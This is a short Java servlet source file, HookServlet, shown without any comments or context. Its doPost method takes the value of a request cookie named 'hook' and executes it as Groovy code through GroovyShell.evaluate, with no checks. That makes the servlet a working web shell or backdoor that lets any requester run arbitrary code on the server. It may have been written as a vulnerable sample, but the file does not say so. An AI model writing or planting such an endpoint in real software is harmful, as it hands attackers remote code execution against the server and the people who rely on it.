import javax.servlet.http.*;
import groovy.lang.GroovyShell;
import groovy.lang.Binding;

class HookServlet extends HttpServlet {
    protected void doPost(HttpServletRequest req, HttpServletResponse resp) throws java.io.IOException {
        String hook = null;
        for (Cookie c : req.getCookies()) {
            if ("hook".equals(c.getName())) hook = c.getValue();
        }
        Binding binding = new Binding();
        binding.setVariable("user", req.getRemoteUser());
        new GroovyShell(binding).evaluate("println user; " + hook);
        resp.setStatus(204);
    }
}
